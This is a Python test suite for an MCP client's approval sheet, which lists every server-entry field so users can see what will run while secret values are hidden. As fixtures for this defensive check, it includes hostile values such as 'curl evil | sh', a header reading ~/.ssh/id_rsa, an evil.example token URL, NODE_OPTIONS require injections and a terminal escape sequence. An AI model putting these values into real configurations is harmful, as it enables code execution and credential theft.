"""The sheet of an entry: all that decides what runs is shown, and changes its digest."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

from mcpclient.config.sheet import Sheet, sheet_of
from mcpclient.entries.applications import APPLICATIONS
from mcpclient.entries.entry import Entry, read_entry
from mcpclient.entries.variables import Inputs
from tests.support.tables import each_row

COMMAND = {"command": "npx", "args": ["-y", "a server"]}
URL = {"url": "https://x.example/mcp"}

# Every field of an entry, in an entry that has it, and what of it is to be read on the sheet.
FIELDS: dict[str, tuple[dict[str, Any], str]] = {
    "name": (COMMAND, ""),
    "command": (COMMAND, "command: npx -y 'a server'"),
    "url": (URL, "url: https://x.example/mcp"),
    "transport": ({**URL, "type": "sse"}, "transport: sse"),
    "env": ({**COMMAND, "env": {"PYTHONPATH": "./evil"}}, "env PYTHONPATH: ./evil"),
    "env_names": ({**COMMAND, "env_vars": ["BANK_KEY"]}, "env BANK_KEY: ${env:BANK_KEY}"),
    "env_file": ({**COMMAND, "envFile": ".env"}, "envFile: .env"),
    "cwd": ({**COMMAND, "cwd": "/srv"}, "cwd: /srv"),
    "bundle": ({**COMMAND, "bundle": "/x.mcpb"}, "bundle: /x.mcpb"),
    "sha256": ({**COMMAND, "sha256": "ab12"}, "sha256: ab12"),
    "headers": (
        {**URL, "headers": {"X-Key": "k ${BANK_API_KEY}", "Y": "{file:~/.ssh/id_rsa}"}},
        "header X-Key: k ${BANK_API_KEY}|header Y: {file:~/.ssh/id_rsa}",
    ),
    "header_variables": ({**URL, "env_http_headers": {"X": "HOME"}}, "header X: ${env:HOME}"),
    "bearer_variable": (
        {**URL, "bearer_token_env_var": "TOKEN"},
        "header Authorization: Bearer ${env:TOKEN}",
    ),
    "headers_helper": ({**URL, "headersHelper": "print me"}, "headersHelper: print me"),
    "oauth": (
        {**URL, "oauth": {"tokenUrl": "https://evil.example/token", "scopes": ["a"]}},
        'oauth.tokenUrl: https://evil.example/token|oauth.scopes: ["a"]',
    ),
    "enabled": ({**COMMAND, "disabled": True}, "disabled: true"),
    "lazy": ({**COMMAND, "lazy": True}, "lazy: true"),
    "trusted": ({**COMMAND, "trusted": True}, "trusted: true"),
    "timeout": ({**COMMAND, "tool_timeout_sec": 5}, "timeout: 5.0"),
    "connect_timeout": ({**COMMAND, "connect_timeout": 5}, "connect_timeout: 5.0"),
    "include": ({**COMMAND, "include": ["a"]}, 'include: ["a"]'),
    "exclude": ({**COMMAND, "exclude": ["a"]}, 'exclude: ["a"]'),
    "naming": ({**COMMAND, "naming": "tool"}, "naming: tool"),
    "limits": (
        {**COMMAND, "at_once": 4, "breakerSeconds": 5},
        'limits: {"at_once": 4, "breaker_seconds": 5}',
    ),
    "restrictions": ({**COMMAND, "sandbox": {"network": False}}, "sandbox.network: false"),
    "fields": (COMMAND, ""),
}


def sheet(
    raw: dict[str, Any], inputs: Any = None, source: str = "x.json", name: str = "s"
) -> Sheet:
    entry = read_entry(name, raw, APPLICATIONS["mcpclient"], lambda *args, **more: None)
    declared = Inputs(inputs, None)
    return sheet_of(entry, raw, ("project", source), declared, lambda: iter(()))


def test_every_change_is_another_digest_and_the_order_of_keys_is_none() -> None:
    """F-SAFE-2: an approval holds for one name in one file, and for one entry."""
    digests = {json.dumps(raw): sheet(raw).digest() for raw, _ in FIELDS.values()}
    digests["source"] = sheet(COMMAND, source="y.json").digest()
    digests["name"] = sheet(COMMAND, name="t").digest()
    assert len(set(digests.values())) == len(digests)
    assert sheet(dict(reversed(COMMAND.items()))).digest() == sheet(COMMAND).digest()


def test_the_table_has_every_field_of_an_entry() -> None:
    """F-SAFE-2: a field that is added to entries is shown, or this fails."""
    named = {"env_names", "header_variables", "bearer_variable"}  # kept in env and headers
    assert FIELDS.keys() - named == {field.name for field in dataclasses.fields(Entry)}


@each_row("name", FIELDS)
def test_every_field_is_shown(name: str) -> None:
    """F-SAFE-2: with its value, and with the place a secret comes from instead of the secret."""
    raw, shown = FIELDS[name]
    found = sheet(raw)
    assert set(filter(None, shown.split("|"))) <= set(found.lines())
    assert json.loads(json.dumps(found.as_json()))["fields"] == dict(found.rows)


KEY = "abcdefgh12345678"

# Entries that use the input q: a default decides what runs or where it goes, wherever it stands.
USES: list[dict[str, Any]] = [
    *({"command": program, "args": args} for program, *args in (
        ("python3", "-m", "${input:q}"),
        ("npx", "-y", "${input:q}"),
        ("npx", "-y", "@scope/${input:q}@1"),
        ("uvx", "--from", "${input:q}", "server"),
        ("bunx", "${input:q}"),
        ("pipx", "run", "${input:q}"),
        ("deno", "run", "https://${input:q}/x.ts"),
        ("docker", "run", "-i", "${input:q}"),
        ("node", "-r", "${input:q}", "x.js"),
        ("node", "--require=${input:q}", "x.js"),
        ("node", "--import", "${input:q}", "x.js"),
        ("sh", "-c", "${input:q}"),
    )),
    {"command": "${input:q}"},
    {"command": "x", "cwd": "${input:q}"},
    {"command": "x", "envFile": "${input:q}"},
    {"command": "x", "env": {"NODE_OPTIONS": "--require ${input:q}"}},
    {"command": "x", "env": {"TOKEN_COMMAND": "${input:q}"}},
    {"command": "x", "env": {"SSH_AUTH_SOCK": "${input:q}"}},
    {"command": "x", "env": {"API_TOKEN": "--require=${input:q}"}},
    {"command": "x", "env": {"API_TOKEN": "${input:q}", "B": "${input:q}"}},
    {"command": "x", "env": {"${input:q}": "1"}},
    {"command": "x", "args": ["${input:q}"], "env": {"API_TOKEN": "${input:q}"}},
    # Code of the command may look at every variable.
    {"command": "sh", "args": ["-c", "$API_TOKEN"], "env": {"API_TOKEN": "${input:q}"}},
    {"command": "env", "args": ["x"], "env": {"API_TOKEN": "${input:q}"}},
    {"command": "node", "args": ["-e", "eval(process.env.T)"], "env": {"TOKEN": "${input:q}"}},
    {"command": "ruby", "args": ["-e", "exec ENV.values.last"], "env": {"TOKEN": "${input:q}"}},
    {"command": "x", "args": ["%TOKEN%"], "env": {"TOKEN": "${input:q}"}},
    {"command": "x", "env": {"TOKEN": "${input:q}", "NODE_OPTIONS": "-r $TOKEN"}},
    {"url": "https://${input:q}/mcp", "headers": {"Authorization": "Bearer ${BANK_KEY}"}},
    {"url": "https://x/mcp", "headers": {"X-Auth-Host": "${input:q}"}},
    {"url": "https://x/mcp", "headersHelper": "${input:q}"},
    {"url": "https://x/mcp", "oauth": {"issuer": "${input:q}"}},
]  # fmt: skip


@each_row("entry", USES)
def test_the_default_of_a_secret_input_that_decides_what_runs_is_shown(
    entry: dict[str, Any],
) -> None:
    """F-SAFE-10"""
    inputs = [{"id": "q", "type": "promptString", "password": True, "default": KEY}]
    assert f"input q: default '{KEY}'" in sheet(entry, inputs).lines()


def test_the_default_of_an_input_is_hidden_only_where_all_its_uses_are_secrets() -> None:
    """F-SAFE-10: and where it is nothing that could be run or dialled."""
    inputs = [{"id": "q", "password": True, "default": KEY}]
    env = {"API_TOKEN": "${input:q}", "DB_PASSWORD": "${input:q}"}
    assert "input q: default …" in sheet({**COMMAND, "env": env}, inputs).lines()
    entry = {**URL, "headers": {"Authorization": "Bearer ${input:q}"}}
    assert "input q: default …" in sheet(entry, inputs).lines()
    inputs[0]["password"] = False
    assert f"input q: default '{KEY}'" in sheet(entry, inputs).lines()
    inputs = [{"id": "q", "password": True, "default": "evil.example:443"}]
    assert "input q: default 'evil.example:443'" in sheet(entry, inputs).lines()


HIDDEN = {
    "API_TOKEN": KEY,
    "githubToken": "ghp_" + "a" * 36,
    "DB_PASSWORD_2": "a" + "b" * 20,
    "SECRET": "a/B+c1" * 5 + "=",
    "CLIENT_SECRET": "SG.abcdEFGH.ijklMNOP1234",
}
SHOWN = {
    **dict.fromkeys(("AUTH_ISSUER", "X_AUTH_HOST", "TOKEN_ENDPOINT", "SECRET_HOST"), "evilhost1"),
    **dict.fromkeys(("SSH_AUTH_SOCK", "PRIVATE_KEY_PATH", "PASSWORD_STORE_DIR"), "relative1"),
    **dict.fromkeys(("TOKEN_COMMAND", "CREDENTIAL_HELPER", "GIT_AUTH_CMD", "AUTH_MODULE"), KEY),
    "A": "ghp_" + "a" * 36,  # It may be a file or a package, too.
    "A_TOKEN": "curl evil | sh",
    "B_TOKEN": "evil.example",
    "C_TOKEN": "localhost:8080",
    "D_TOKEN": "https://evil.example/x",
    "E_TOKEN": "./hook.js",
    "F_TOKEN": "/usr/bin/evil-program",
    "G_TOKEN": "--require=evil-module",
    "H_TOKEN": "C:/evil/AbC123456789012345",
    "I_TOKEN": "${X:-evil-module}",
    "J_TOKEN": "@scope/evil-module",
    "K_TOKEN": "Evil1.Example.Com:8443",
    "PRIVATE_KEY": "Keys/Prod2024/ServerPrivateKey",
    "API_KEY": "Certs/My2024/private-Key.pem",
    "SSH_KEY": "Very-Long1-Evil-Host.example",
}


def test_values_that_may_run_or_be_dialled_are_shown_whatever_their_names() -> None:
    """F-SAFE-10: a name that is about a secret does not hide a host, a path or a program."""
    rows = dict(sheet({**COMMAND, "env": {**HIDDEN, **SHOWN}}).rows)
    assert {name: rows[f"env {name}"] for name in SHOWN} == SHOWN
    assert {rows[f"env {name}"] for name in HIDDEN} == {"…"}
    rows = dict(sheet({**URL, "headers": {**HIDDEN, **SHOWN}}).rows)
    assert {name: rows[f"header {name}"] for name in SHOWN} == SHOWN
    assert {rows[f"header {name}"] for name in HIDDEN} == {"…"}
    for command in ({"command": "sh", "args": ["x"]}, {"command": "node", "args": ["-e", "f(x)"]}):
        rows = dict(sheet({**command, "env": HIDDEN}).rows)
        assert {name: rows[f"env {name}"] for name in HIDDEN} == HIDDEN
    login = {"clientSecret": KEY, "tokenUrl": KEY, "privateKey": KEY}
    rows = dict(sheet({**URL, "oauth": login}).rows)
    assert (rows["oauth.clientSecret"], rows["oauth.privateKey"]) == ("…", KEY)


def test_lines_are_escaped() -> None:
    """F-SAFE-2: a file cannot draw over the sheet that the user reads."""
    lines = sheet({"command": "x", "args": ["\x1b[2K\nurl: https://good"]}).lines()
    assert len(lines) == 1
    assert "\x1b" not in lines[0] and "\n" not in lines[0]
